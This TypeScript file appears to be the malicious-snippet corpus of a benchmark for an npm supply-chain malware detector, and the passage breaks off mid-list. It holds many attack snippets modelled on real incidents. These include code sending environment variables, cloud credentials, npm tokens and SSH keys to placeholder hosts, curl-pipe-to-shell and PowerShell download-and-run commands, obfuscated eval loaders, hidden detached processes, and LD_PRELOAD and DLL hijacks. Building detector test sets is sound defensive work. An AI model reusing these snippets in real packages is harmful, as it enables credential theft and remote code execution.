/**
 * The behaviour-family corpus of `npm run bench:detect` (part c): short malicious snippets, each written for this
 * project from public descriptions of real npm incidents and of open-source scanner rules (GuardDog's npm rules:
 * serialize-environment, exfiltrate-sensitive-data, exec-base64, silent-process-execution, steganography,
 * dll-hijacking, clipboard access, install scripts; OpenSSF package-analysis's dynamic behaviours; write-ups of
 * Shai-Hulud, s1ngularity, the chalk/debug hijack, Mini Shai-Hulud / @redhat-cloud-services/chrome, the
 * dependency-confusion recon packages, os-info-checker-es6 and GlassWorm's invisible Unicode), plus benign
 * snippets that look like them (HTTP clients, CLIs that spawn git, telemetry with an opt-out, build tools that
 * read the environment, install hooks that print a message or build a native addon).
 *
 * The code is written from those descriptions, never copied, and is inert: every host is under `example.invalid`
 * (RFC 6761: never resolves) or a documentation address (RFC 5737), tokens and wallets are made up, and nothing
 * is ever run — TrustLens only reads tarballs, and the bench injects these snippets into real tarballs in memory.
 *
 * Each snippet is injected as a new release of a real package (see `inject` in detect.bench.ts): appended to the
 * main file, as a new file the main file requires, or as a new file an install hook runs. The bench prints, per
 * family, how many malicious snippets reach high or above and how many benign ones do.
 */

/** How a snippet enters the package. */
export type Delivery =
  /** Appended to the package's main file (the chalk/debug shape). */
  | 'append-main'
  /** The files are added; the main file gains `require('./<entry>')`. */
  | 'require-from-main'
  /** The files are added; a new `postinstall`/`preinstall`/`install` runs `node <entry>` (or `hook` when given). */
  | 'postinstall'
  | 'preinstall'
  | 'install';

export type Family =
  | 'environment'
  | 'credential-files'
  | 'host-info'
  | 'decode-and-run'
  | 'reflective-access'
  | 'silent-launch'
  | 'hijack'
  | 'steganography'
  | 'worm'
  | 'download-and-run'
  | 'clipboard-keychain'
  | 'install-hook';

export interface Snippet {
  id: string;
  family: Family;
  /** What it is written after (an incident or a scanner rule) — or, for benign ones, what real code it resembles. */
  after: string;
  delivery: Delivery;
  /** The code: for append-main, the text appended; otherwise files by path (the entry first). */
  code?: string;
  files?: Record<string, string | Buffer>;
  /** The hook command (default `node <first file>`). */
  hook?: string;
  /** The package already had native code (binding.gyp added to both releases). */
  nativeBefore?: boolean;
}

const H = 'example.invalid';

// ---------------------------------------------------------------- malicious: environment

const ENVIRONMENT: Snippet[] = [
  {
    id: 'env-bracket-post',
    family: 'environment',
    after: 'GuardDog npm-serialize-environment; bracket access as obfuscators write it',
    delivery: 'append-main',
    code: `;(function(){try{var e=process["env"];var b=JSON.stringify(e);var r=require("https").request({hostname:"collect.${H}",method:"POST",path:"/e"});r.on("error",function(){});r.end(b);}catch(_){}})();`,
  },
  {
    id: 'env-alias-base64-fetch',
    family: 'environment',
    after: 'Shai-Hulud bundle.js: environment serialised, base64, POST',
    delivery: 'postinstall',
    files: {
      'scripts/telemetry.js': `const p = process;\nconst data = Buffer.from(JSON.stringify(p['env'])).toString('base64');\nfetch('https://api.${H}/v1/collect', { method: 'POST', body: data }).catch(() => {});\n`,
    },
  },
  {
    id: 'env-filter-query',
    family: 'environment',
    after: 's1ngularity telemetry.js: secrets-looking variables picked and sent',
    delivery: 'require-from-main',
    files: {
      'lib/stats.js': `const http = require('http');\nconst qs = require('querystring');\nconst picked = {};\nfor (const [k, v] of Object.entries(process.env)) { if (/TOKEN|KEY|SECRET|PASS/i.test(k)) picked[k] = v; }\nhttp.get('http://stats.${H}/p?' + qs.stringify(picked), () => {}).on('error', () => {});\n`,
    },
  },
  {
    id: 'env-dns-hex',
    family: 'environment',
    after: 'dependency-confusion payloads: data hex-encoded into DNS names',
    delivery: 'preinstall',
    files: {
      'preinstall.js': `const dns = require('dns');\nconst hex = Buffer.from(JSON.stringify(Object.assign({}, process.env))).toString('hex');\nfor (let i = 0; i < hex.length; i += 60) dns.resolve(hex.slice(i, i + 60) + '.' + i + '.d.${H}', () => {});\n`,
    },
  },
  {
    id: 'env-urlsearchparams',
    family: 'environment',
    after: 'GuardDog npm-exfiltrate-sensitive-data: the environment as a query string',
    delivery: 'append-main',
    code: `\n;(() => { const q = new URLSearchParams(globalThis.process.env).toString(); require('https').get('https://beacon.${H}/b?' + q).on('error', () => {}); })();\n`,
  },
  {
    id: 'env-reflect-axios',
    family: 'environment',
    after: 'environment taken through Reflect.get and posted with an HTTP client',
    delivery: 'require-from-main',
    files: {
      'lib/sync.js': `const axios = require('axios');\nconst env = Reflect.get(process, 'env');\naxios.post('https://sync.${H}/api/state', { s: Buffer.from(JSON.stringify(env)).toString('base64') }).catch(() => {});\n`,
    },
  },
  {
    id: 'env-destructure-gzip-socket',
    family: 'environment',
    after: 'environment compressed and written to a raw socket',
    delivery: 'postinstall',
    files: {
      'install/check.js': `const { env } = process;\nconst zlib = require('zlib');\nconst net = require('net');\nconst payload = zlib.gzipSync(JSON.stringify(env)).toString('base64');\nconst s = net.connect(443, 'relay.${H}', () => { s.end(payload); });\ns.on('error', () => {});\n`,
    },
  },
  {
    id: 'env-printenv-exec',
    family: 'environment',
    after: 'printenv captured through a child process, then posted',
    delivery: 'postinstall',
    files: {
      'postinstall.js': `const out = require('child_process').execSync('printenv').toString();\nconst req = require('https').request({ host: 'c.${H}', path: '/x', method: 'POST' });\nreq.on('error', () => {});\nreq.end(Buffer.from(out).toString('base64'));\n`,
    },
  },
  {
    id: 'env-shell-curl',
    family: 'environment',
    after: 'install.sh posting `env | base64` with curl',
    delivery: 'postinstall',
    hook: 'sh ./install.sh',
    files: { 'install.sh': `#!/bin/sh\ncurl -s -X POST -d "$(env | base64 -w0)" https://hooks.${H}/c >/dev/null 2>&1 || true\n` },
  },
  {
    id: 'env-inline-hook',
    family: 'environment',
    after: 'an inline `node -e` postinstall sending the environment',
    delivery: 'postinstall',
    hook: `node -e "require('https').get('https://x.${H}/?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))"`,
    files: {},
  },
];

// ---------------------------------------------------------------- malicious: credential files

const CREDENTIAL_FILES: Snippet[] = [
  {
    id: 'aws-read-here-post-there',
    family: 'credential-files',
    after: 'a credentials file read in one module and posted in another',
    delivery: 'require-from-main',
    files: {
      'lib/init.js': `const creds = require('./profile');\nconst send = require('./report');\nsend(JSON.stringify({ c: creds() }));\n`,
      'lib/profile.js': `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nmodule.exports = () => { try { return fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); } catch (e) { return ''; } };\n`,
      'lib/report.js': `const https = require('https');\nmodule.exports = (body) => { const r = https.request({ hostname: 'metrics.${H}', method: 'POST', path: '/r' }); r.on('error', () => {}); r.end(body); };\n`,
    },
  },
  {
    id: 'npmrc-base64-fetch',
    family: 'credential-files',
    after: 'Shai-Hulud: the npm token in ~/.npmrc',
    delivery: 'postinstall',
    files: {
      'setup.js': `const fs = require('fs');\nconst home = require('os').homedir();\nlet t = '';\ntry { t = fs.readFileSync(home + '/.npmrc', 'utf8'); } catch (e) {}\nfetch('https://registry-mirror.${H}/t', { method: 'POST', body: Buffer.from(t).toString('base64') }).catch(() => {});\n`,
    },
  },
  {
    id: 'ssh-dir-json',
    family: 'credential-files',
    after: 'SSH keys collected from ~/.ssh',
    delivery: 'require-from-main',
    files: {
      'lib/keys.js': `const fs = require('fs'), path = require('path'), os = require('os');\nconst dir = path.join(os.homedir(), '.ssh');\nconst out = {};\ntry { for (const f of fs.readdirSync(dir)) out[f] = fs.readFileSync(path.join(dir, f), 'utf8'); } catch (e) {}\nrequire('https').request({ hostname: 'keys.${H}', method: 'PUT', path: '/k' }).on('error', () => {}).end(JSON.stringify(out));\n`,
    },
  },
  {
    id: 'git-credentials-discord',
    family: 'credential-files',
    after: 'git credentials and gh hosts.yml sent to a chat webhook',
    delivery: 'postinstall',
    files: {
      'scripts/post.js': `const fs = require('fs');\nconst os = require('os');\nconst files = ['.git-credentials', '.config/gh/hosts.yml'];\nconst content = files.map((f) => { try { return fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) { return ''; } }).join('\\n');\nfetch('https://discord.com/api/webhooks/000000/inert', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) }).catch(() => {});\n`,
    },
  },
  {
    id: 'docker-kube-http',
    family: 'credential-files',
    after: 'cloud and cluster configs (~/.docker/config.json, ~/.kube/config)',
    delivery: 'append-main',
    code: `\n;(function () {\n  var fs = require('fs'), home = require('os').homedir();\n  var grab = function (p) { try { return fs.readFileSync(home + p).toString('base64'); } catch (e) { return null; } };\n  var d = { docker: grab('/.docker/config.json'), kube: grab('/.kube/config') };\n  var r = require('http').request({ host: 'cfg.${H}', port: 8080, method: 'POST', path: '/' });\n  r.on('error', function () {}); r.end(JSON.stringify(d));\n})();\n`,
  },
  {
    id: 'npmrc-cross-module-loader',
    family: 'credential-files',
    after: 'a "config loader" and a "metrics" module joined by a new entry point',
    delivery: 'require-from-main',
    files: {
      'lib/bootstrap.js': `const cfg = require('./config-loader');\nconst metrics = require('./metrics');\nmetrics.push(Buffer.from(JSON.stringify(cfg.load())).toString('base64'));\n`,
      'lib/config-loader.js': `const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nexports.load = () => { try { return { rc: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') }; } catch (e) { return {}; } };\n`,
      'lib/metrics.js': `const https = require('https');\nexports.push = (s) => { const r = https.request('https://m.${H}/push', { method: 'POST' }); r.on('error', () => {}); r.end(s); };\n`,
    },
  },
  {
    id: 'gcloud-azure-encrypted',
    family: 'credential-files',
    after: 'cloud credentials encrypted before they leave (to defeat network inspection)',
    delivery: 'postinstall',
    files: {
      'lib/postinstall.js': `const crypto = require('crypto'), fs = require('fs'), os = require('os'), path = require('path');\nconst read = (p) => { try { return fs.readFileSync(path.join(os.homedir(), p), 'utf8'); } catch (e) { return ''; } };\nconst blob = JSON.stringify({ g: read('.config/gcloud/application_default_credentials.json'), a: read('.azure/accessTokens.json') });\nconst key = crypto.randomBytes(32), iv = crypto.randomBytes(16);\nconst c = crypto.createCipheriv('aes-256-cbc', key, iv);\nconst enc = Buffer.concat([c.update(blob), c.final()]).toString('hex');\nrequire('https').request({ hostname: 'cdn-assets.${H}', method: 'POST' }).on('error', () => {}).end(key.toString('hex') + iv.toString('hex') + enc);\n`,
    },
  },
  {
    id: 'powershell-npmrc',
    family: 'credential-files',
    after: 'a PowerShell preinstall uploading %USERPROFILE%\\.npmrc',
    delivery: 'preinstall',
    hook: 'powershell -ExecutionPolicy Bypass -File setup.ps1',
    files: {
      'setup.ps1': `$c = Get-Content "$env:USERPROFILE\\.npmrc" -Raw\n$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($c))\nInvoke-RestMethod -Method Post -Uri "https://ps.${H}/u" -Body $b\n`,
    },
  },
  {
    id: 'project-dotenv-walk',
    family: 'credential-files',
    after: "the installing project's .env found through INIT_CWD and posted",
    delivery: 'postinstall',
    files: {
      'tools/env-check.js': `const fs = require('fs');\nconst path = require('path');\nconst root = process.env.INIT_CWD || process.cwd();\nlet text = '';\ntry { text = fs.readFileSync(path.join(root, '.env'), 'utf8'); } catch (e) {}\nif (text) fetch('https://env.${H}/e', { method: 'POST', body: Buffer.from(text).toString('base64') }).catch(() => {});\n`,
    },
  },
];

// ---------------------------------------------------------------- malicious: host and user information

const HOST_INFO: Snippet[] = [
  {
    id: 'recon-json-post',
    family: 'host-info',
    after: 'dependency-confusion recon: hostname, user, interfaces posted on install',
    delivery: 'postinstall',
    files: {
      'index-setup.js': `const os = require('os');\nconst info = { h: os.hostname(), u: os.userInfo().username, p: os.platform(), d: __dirname, n: os.networkInterfaces() };\nconst r = require('https').request({ hostname: 'recon.${H}', method: 'POST', path: '/i' });\nr.on('error', () => {});\nr.end(JSON.stringify(info));\n`,
    },
  },
  {
    id: 'recon-dns-hostname',
    family: 'host-info',
    after: 'recon through DNS: host and user hex-encoded into a lookup',
    delivery: 'preinstall',
    files: {
      'pre.js': `const os = require('os');\nconst dns = require('dns');\nconst label = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex').slice(0, 62);\ndns.lookup(label + '.r.${H}', () => {});\n`,
    },
  },
  {
    id: 'recon-exec-whoami',
    family: 'host-info',
    after: 'whoami and hostname through a child process, sent in a query string',
    delivery: 'append-main',
    code: `\n;(function(){try{var cp=require('child_process');var u=cp.execSync('whoami').toString().trim();var h=cp.execSync('hostname').toString().trim();require('http').get('http://t.${H}/?u='+encodeURIComponent(u)+'&h='+encodeURIComponent(h)).on('error',function(){});}catch(e){}})();\n`,
  },
  {
    id: 'recon-mac-fetch',
    family: 'host-info',
    after: 'MAC addresses as a machine fingerprint',
    delivery: 'require-from-main',
    files: {
      'lib/fp.js': `const os = require('os');\nconst macs = Object.values(os.networkInterfaces()).flat().map((i) => i && i.mac).filter(Boolean);\nfetch('https://fp.${H}/m', { method: 'POST', body: Buffer.from(macs.join(',')).toString('base64') }).catch(() => {});\n`,
    },
  },
  {
    id: 'recon-websocket',
    family: 'host-info',
    after: 'user, home and working directory sent over a WebSocket',
    delivery: 'require-from-main',
    files: {
      'lib/live.js': `const os = require('os');\nconst WebSocket = require('ws');\nconst ws = new WebSocket('wss://live.${H}/s');\nws.on('open', () => ws.send(btoa(JSON.stringify({ user: os.userInfo(), home: os.homedir(), cwd: process.cwd() }))));\nws.on('error', () => {});\n`,
    },
  },
  {
    id: 'recon-shell-curl',
    family: 'host-info',
    after: 'a preinstall curl carrying $(hostname) and $(whoami)',
    delivery: 'preinstall',
    hook: `curl -s "https://ping.${H}/?h=$(hostname)&u=$(whoami)&d=$(pwd)" || true`,
    files: {},
  },
  {
    id: 'recon-sandbox-fingerprint',
    family: 'host-info',
    after: 'sandbox fingerprinting (cpus, memory, hostname) before a second stage',
    delivery: 'postinstall',
    files: {
      'scripts/env-info.js': `const os = require('os');\nconst http = require('http');\nconst fp = JSON.stringify({ c: os.cpus().length, m: os.totalmem(), h: os.hostname(), up: os.uptime() });\nconst r = http.request({ host: 'stage.${H}', path: '/fp', method: 'POST' }, () => {});\nr.on('error', () => {});\nr.write(fp);\nr.end();\n`,
    },
  },
  {
    id: 'recon-windows-vars',
    family: 'host-info',
    after: 'Windows host and domain names from the environment',
    delivery: 'append-main',
    code: `\n;(function(){var e=process.env;var d=[require('os').hostname(),e.COMPUTERNAME,e.USERDOMAIN,e.USERNAME].join('|');require('https').get('https://w.${H}/c?d='+encodeURIComponent(d)).on('error',function(){});})();\n`,
  },
  {
    id: 'recon-userinfo-hex-image',
    family: 'host-info',
    after: 'a tracking-pixel request carrying hex-encoded user information',
    delivery: 'require-from-main',
    files: {
      'lib/pixel.js': `const os = require('os');\nconst https = require('https');\nconst id = Buffer.from(JSON.stringify(os.userInfo())).toString('hex');\nhttps.get({ hostname: 'img.${H}', path: '/p.gif?i=' + id }, () => {}).on('error', () => {});\n`,
    },
  },
];

// ---------------------------------------------------------------- malicious: decoders feeding code sinks

const hexOf = (s: string) => Buffer.from(s).toString('hex');
const b64 = (s: string) => Buffer.from(s).toString('base64');
const xorB64 = (s: string, k: number) => Buffer.from([...Buffer.from(s)].map((c) => c ^ k)).toString('base64');
const rot13 = (s: string) => s.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.charCodeAt(0) - (c <= 'Z' ? 65 : 97) + 13) % 26) + (c <= 'Z' ? 65 : 97)));
const shift = (s: string, n: number) => [...s].map((c) => String.fromCharCode(c.charCodeAt(0) + n)).join('');
const STAGE2 = `require('https').get('https://stage2.${H}/n.js',function(r){var d='';r.on('data',function(c){d+=c});});`;

const DECODE_AND_RUN: Snippet[] = [
  {
    id: 'hex-pairs-eval',
    family: 'decode-and-run',
    after: 'GuardDog npm-exec-base64 family: a hex string decoded pair by pair and evaluated',
    delivery: 'append-main',
    code: `\n;(function(){var h='${hexOf(STAGE2)}';var s='';for(var i=0;i<h.length;i+=2){s+=String.fromCharCode(parseInt(h.substr(i,2),16));}eval(s);})();\n`,
  },
  {
    id: 'xor-loop-function',
    family: 'decode-and-run',
    after: 'a single-byte XOR loop over a base64 blob, run with new Function',
    delivery: 'require-from-main',
    files: {
      'lib/cache.js': `const k = 0x5a;\nconst b = Buffer.from('${xorB64(STAGE2, 0x5a)}', 'base64');\nfor (let i = 0; i < b.length; i++) b[i] ^= k;\nnew Function(b.toString())();\n`,
    },
  },
  {
    id: 'rot13-eval',
    family: 'decode-and-run',
    after: 'ROT13 text decoded with a replace callback and evaluated',
    delivery: 'append-main',
    code: `\n;(function(){var t='${rot13(STAGE2).replace(/'/g, "\\'")}';var r=t.replace(/[a-zA-Z]/g,function(c){return String.fromCharCode((c<='Z'?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26);});eval(r);})();\n`,
  },
  {
    id: 'caesar-function',
    family: 'decode-and-run',
    after: 'a Caesar shift over char codes, run through Function',
    delivery: 'postinstall',
    files: {
      'lib/post.js': `const enc = ${JSON.stringify(shift(STAGE2, 3))};\nlet src = '';\nfor (const ch of enc) src += String.fromCharCode(ch.charCodeAt(0) - 3);\nFunction(src)();\n`,
    },
  },
  {
    id: 'base64-vm',
    family: 'decode-and-run',
    after: 'base64 decoded and run through vm.runInThisContext',
    delivery: 'require-from-main',
    files: {
      'lib/runtime.js': `const vm = require('vm');\nconst code = Buffer.from('${b64(STAGE2)}', 'base64').toString('utf8');\nvm.runInThisContext(code);\n`,
    },
  },
  {
    id: 'packer-classic',
    family: 'decode-and-run',
    after: 'Dean Edwards packer (p,a,c,k,e,d)',
    delivery: 'append-main',
    code: `\neval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0(\\'1\\').2(\\'3://4.5/6.7\\')',8,8,'require|https|get|https|stage2|${H}|n|js'.split('|'),0,{}));\n`,
  },
  {
    id: 'packer-variant-r',
    family: 'decode-and-run',
    after: 'a packer variant (p,a,c,k,e,r) with renamed helpers',
    delivery: 'require-from-main',
    files: {
      'lib/polyfill.js': `eval(function(p,a,c,k,e,r){e=String;if(!''.replace(/^/,String)){while(c--)r[c]=k[c]||c;k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0(\\'1\\').2(\\'3\\')',4,4,'require|child_process|exec|id'.split('|'),0,{}))\n`,
    },
  },
  {
    id: 'packer-hunter',
    family: 'decode-and-run',
    after: 'the "hunter" self-decoding wrapper eval(function(h,u,n,t,e,r){…}) seen in malicious packages',
    delivery: 'append-main',
    code: `\n;eval(function(h,u,n,t,e,r){r="";for(var i=0,len=h.length;i<len;i++){var s="";while(h[i]!==n[e]){s+=h[i];i++}for(var j=0;j<n.length;j++)s=s.replace(new RegExp(n[j],"g"),j);r+=String.fromCharCode(_0xe(s,e,10)-t)}return decodeURIComponent(escape(r))}("${'BrrBaBrBaBraBa'.repeat(12)}",46,"Bra",17,2,28));function _0xe(d,e,f){return parseInt(d,e)}\n`,
  },
  {
    id: 'decode-to-tmp-require',
    family: 'decode-and-run',
    after: 'a payload decoded into a temporary file and required',
    delivery: 'postinstall',
    files: {
      'install.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst p = path.join(os.tmpdir(), '.cache-' + process.pid + '.js');\nfs.writeFileSync(p, Buffer.from('${b64(STAGE2)}', 'base64'));\nrequire(p);\n`,
    },
  },
  {
    id: 'module-compile',
    family: 'decode-and-run',
    after: 'decoded text compiled as a module through Module.prototype._compile',
    delivery: 'require-from-main',
    files: {
      'lib/loader.js': `const Module = module.constructor;\nconst m = new Module('x');\nm._compile(Buffer.from('${b64(STAGE2)}', 'base64').toString(), 'x.js');\n`,
    },
  },
  {
    id: 'charcode-xor-array',
    family: 'decode-and-run',
    after: 'a char-code array XOR-ed with a key and run',
    delivery: 'append-main',
    code: `\n;(function(){var a=[${[...Buffer.from(STAGE2)].map((c) => c ^ 23).join(',')}];var f=Function(String.fromCharCode.apply(null,a.map(function(c){return c^23;})));f();})();\n`,
  },
  {
    id: 'reverse-atob-eval',
    family: 'decode-and-run',
    after: 'a reversed base64 string decoded with atob and evaluated indirectly',
    delivery: 'require-from-main',
    files: {
      'lib/compat.js': `const s = '${b64(STAGE2).split('').reverse().join('')}';\nconst code = atob(s.split('').reverse().join(''));\n(0, eval)(code);\n`,
    },
  },
];

// ---------------------------------------------------------------- malicious: reflective and computed access

const REFLECTIVE: Snippet[] = [
  {
    id: 'global-require-concat',
    family: 'reflective-access',
    after: "global['req'+'uire'] and a module name split in pieces",
    delivery: 'append-main',
    code: `\n;try{global['req'+'uire']('chi'+'ld_pro'+'cess')['ex'+'ecSync']('curl -s https://k.${H}/i | sh');}catch(e){}\n`,
  },
  {
    id: 'reflect-get-eval',
    family: 'reflective-access',
    after: "Reflect.get(globalThis, 'ev'+'al') on fetched code",
    delivery: 'require-from-main',
    files: {
      'lib/plugins.js': `fetch('https://cdn.${H}/plugin.js').then((r) => r.text()).then((t) => Reflect.get(globalThis, 'ev' + 'al')(t)).catch(() => {});\n`,
    },
  },
  {
    id: 'join-module-name',
    family: 'reflective-access',
    after: 'a module name joined from an array',
    delivery: 'postinstall',
    files: {
      'scripts/prepare-env.js': `const name = ['child', 'process'].join('_');\nconst cp = require(name);\ncp.exec('wget -qO- https://k.${H}/x | sh');\n`,
    },
  },
  {
    id: 'fromcharcode-global-eval',
    family: 'reflective-access',
    after: 'globalThis[String.fromCharCode(…)] spelling eval',
    delivery: 'append-main',
    code: `\n;(function(){var n=String.fromCharCode(101,118,97,108);var src="require('https').get('https://g.${H}/x')";globalThis[n](src);})();\n`,
  },
  {
    id: 'mainmodule-load',
    family: 'reflective-access',
    after: 'process.mainModule.constructor._load to reach child_process',
    delivery: 'require-from-main',
    files: {
      'lib/env.js': `const load = process['mainModule'].constructor['_load'];\nconst cp = load('child' + '_process');\ncp['spawn']('sh', ['-c', 'curl https://k.${H}/s | sh'], { stdio: 'ignore' });\n`,
    },
  },
  {
    id: 'constructor-escape',
    family: 'reflective-access',
    after: "this.constructor.constructor('return process') (a sandbox escape) then child_process",
    delivery: 'append-main',
    code: `\n;(function(){var p=this.constructor.constructor('return pro'+'cess')();p.mainModule.require('child_'+'process').exec('id > /tmp/.o');}).call({});\n`,
  },
  {
    id: 'template-module-name',
    family: 'reflective-access',
    after: 'a template literal building the module name',
    delivery: 'require-from-main',
    files: { 'lib/tasks.js': "const a = 'child', b = 'process';\nconst cp = require(`${a}_${b}`);\ncp.execSync('curl -fsSL https://k." + H + "/t | bash');\n" },
  },
  {
    id: 'reflect-apply-spawn',
    family: 'reflective-access',
    after: 'Reflect.apply on a spawn reached through computed names',
    delivery: 'postinstall',
    files: {
      'post.js': `const m = require('c' + 'hild_process');\nReflect.apply(m['spa' + 'wn'], null, ['sh', ['-c', 'curl https://k.${H}/r | sh'], { stdio: 'ignore' }]);\n`,
    },
  },
  {
    id: 'char-join-exec',
    family: 'reflective-access',
    after: 'method names joined from characters',
    delivery: 'append-main',
    code: `\n;(function(){var k=['e','x','e','c'].join('');var cp=require(['child','process'].join('_'));cp[k]('powershell -w hidden -c "iwr https://k.${H}/p | iex"');})();\n`,
  },
  {
    id: 'process-binding-spawn',
    family: 'reflective-access',
    after: "process.binding('spawn_sync') reached by a computed name",
    delivery: 'require-from-main',
    files: {
      'lib/native.js': `const b = process['bin' + 'ding']('spawn_sync');\nb.spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl https://k.${H}/b | sh'], stdio: [{ type: 'pipe', readable: true }] });\n`,
    },
  },
];

// ---------------------------------------------------------------- malicious: silent, detached launches

const SILENT_LAUNCH: Snippet[] = [
  {
    id: 'detached-worker',
    family: 'silent-launch',
    after: "Mini Shai-Hulud setup_bun.js: a detached, ignored, unref'd process on a new file",
    delivery: 'postinstall',
    files: {
      'scripts/setup.js': `const { spawn } = require('child_process');\nconst path = require('path');\nspawn(process.execPath, [path.join(__dirname, 'worker.js')], { detached: true, stdio: 'ignore' }).unref();\n`,
      'scripts/worker.js': `setInterval(() => { fetch('https://beat.${H}/b').catch(() => {}); }, 60000);\n`,
    },
  },
  {
    id: 'windows-start-b',
    family: 'silent-launch',
    after: 'cmd start /b with windowsHide',
    delivery: 'postinstall',
    files: {
      'scripts/win.js': `const cp = require('child_process');\nconst path = require('path');\ncp.spawn('cmd.exe', ['/c', 'start', '/b', path.join(__dirname, 'svc.exe')], { windowsHide: true, detached: true });\n`,
      'scripts/svc.exe': Buffer.from('4d5a9000030000000400', 'hex'),
    },
  },
  {
    id: 'nohup-background',
    family: 'silent-launch',
    after: 'nohup … & from exec',
    delivery: 'require-from-main',
    files: {
      'lib/daemon.js': `require('child_process').exec('nohup node ' + __dirname + '/.cache.js > /dev/null 2>&1 &');\n`,
      'lib/.cache.js': `setInterval(function(){require('https').get('https://beat.${H}/n').on('error',function(){});},30000);\n`,
    },
  },
  {
    id: 'fork-silent-detached',
    family: 'silent-launch',
    after: 'child_process.fork with silent and detached',
    delivery: 'append-main',
    code: `\n;(function(){try{var c=require('child_process').fork(require('path').join(__dirname,'monitor.js'),[],{detached:true,silent:true});c.unref();c.disconnect&&c.disconnect();}catch(e){}})();\n`,
  },
  {
    id: 'setsid-shell',
    family: 'silent-launch',
    after: 'setsid and output to /dev/null in an install script',
    delivery: 'install',
    hook: 'sh scripts/install.sh',
    files: {
      'scripts/install.sh': `#!/bin/sh\nsetsid node ./scripts/agent.js >/dev/null 2>&1 < /dev/null &\nexit 0\n`,
      'scripts/agent.js': `setInterval(function(){require('https').get('https://beat.${H}/a').on('error',function(){});},60000);\n`,
    },
  },
  {
    id: 'powershell-hidden',
    family: 'silent-launch',
    after: 'Start-Process -WindowStyle Hidden',
    delivery: 'postinstall',
    files: {
      'post.js': `const { execSync } = require('child_process');\nif (process.platform === 'win32') execSync('powershell -NoProfile -Command "Start-Process -WindowStyle Hidden -FilePath node -ArgumentList \\'' + __dirname + '\\\\upd.js\\'"');\n`,
    },
  },
  {
    id: 'node-e-detached',
    family: 'silent-launch',
    after: 'node -e code launched detached with every stream ignored',
    delivery: 'require-from-main',
    files: {
      'lib/warmup.js': `const { spawn } = require('child_process');\nconst code = "setInterval(()=>require('https').get('https://beat.${H}/w'),6e4)";\nspawn(process.execPath, ['-e', code], { detached: true, stdio: ['ignore', 'ignore', 'ignore'] }).unref();\n`,
    },
  },
  {
    id: 'library-hidden-launch',
    family: 'silent-launch',
    after: 'a library that never started processes gains a hidden detached launch',
    delivery: 'append-main',
    code: `\n;(function(){var cp=require('child_process');var p=cp.spawn('node',[require('path').join(require('os').tmpdir(),'.svc.js')],{detached:true,windowsHide:true,stdio:'ignore'});p.unref();})();\n`,
  },
  {
    id: 'execfile-tmp-hidden',
    family: 'silent-launch',
    after: 'a binary in the temp folder run hidden',
    delivery: 'postinstall',
    files: {
      'scripts/run.js': `const { execFile } = require('child_process');\nconst path = require('path');\nconst os = require('os');\nconst bin = path.join(os.tmpdir(), 'updater');\nexecFile(bin, [], { windowsHide: true, detached: true, stdio: 'ignore' }, () => {}).unref();\n`,
    },
  },
];

// ---------------------------------------------------------------- malicious: LD_PRELOAD, DLL hijacking, rundll32

const HIJACK: Snippet[] = [
  {
    id: 'ld-so-preload',
    family: 'hijack',
    after: 'writing /etc/ld.so.preload (every process loads the library)',
    delivery: 'postinstall',
    files: {
      'install.js': `const fs = require('fs');\nconst path = require('path');\ntry { fs.appendFileSync('/etc/ld.so.preload', path.join(__dirname, 'build', 'libhook.so') + '\\n'); } catch (e) {}\n`,
    },
  },
  {
    id: 'ld-preload-env',
    family: 'hijack',
    after: 'LD_PRELOAD set for a spawned program',
    delivery: 'require-from-main',
    files: {
      'lib/run.js': `const { spawnSync } = require('child_process');\nconst path = require('path');\nspawnSync('git', ['status'], { env: Object.assign({}, process.env, { LD_PRELOAD: path.join(__dirname, 'libgit.so') }) });\n`,
    },
  },
  {
    id: 'dyld-insert',
    family: 'hijack',
    after: 'DYLD_INSERT_LIBRARIES on macOS',
    delivery: 'postinstall',
    files: {
      'scripts/mac.js': `const { exec } = require('child_process');\nexec('DYLD_INSERT_LIBRARIES=' + __dirname + '/libx.dylib /Applications/Slack.app/Contents/MacOS/Slack &');\n`,
    },
  },
  {
    id: 'rundll32-dll',
    family: 'hijack',
    after: 'rundll32 running a DLL shipped in the package',
    delivery: 'postinstall',
    files: {
      'scripts/win-setup.js': `const { execSync } = require('child_process');\nconst path = require('path');\nif (process.platform === 'win32') { try { execSync('rundll32.exe ' + path.join(__dirname, 'helper.dll') + ',DllRegisterServer'); } catch (e) {} }\n`,
    },
  },
  {
    id: 'regsvr32-scrobj',
    family: 'hijack',
    after: 'regsvr32 /i:<url> scrobj.dll (squiblydoo)',
    delivery: 'preinstall',
    hook: `regsvr32 /s /n /u /i:https://s.${H}/x.sct scrobj.dll || exit 0`,
    files: {},
  },
  {
    id: 'dll-sideload-teams',
    family: 'hijack',
    after: 'DLL side-loading: a DLL copied next to an application that loads it by name',
    delivery: 'postinstall',
    files: {
      'scripts/compat.js': `const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(process.env.LOCALAPPDATA || '', 'Microsoft', 'Teams', 'current');\ntry { fs.copyFileSync(path.join(__dirname, 'version.dll'), path.join(dir, 'version.dll')); } catch (e) {}\n`,
      'scripts/version.dll': Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
    },
  },
  {
    id: 'mshta-remote',
    family: 'hijack',
    after: 'mshta running a remote HTA',
    delivery: 'require-from-main',
    files: { 'lib/win.js': `if (process.platform === 'win32') require('child_process').exec('mshta https://h.${H}/a.hta');\n` },
  },
  {
    id: 'ld-preload-bashrc',
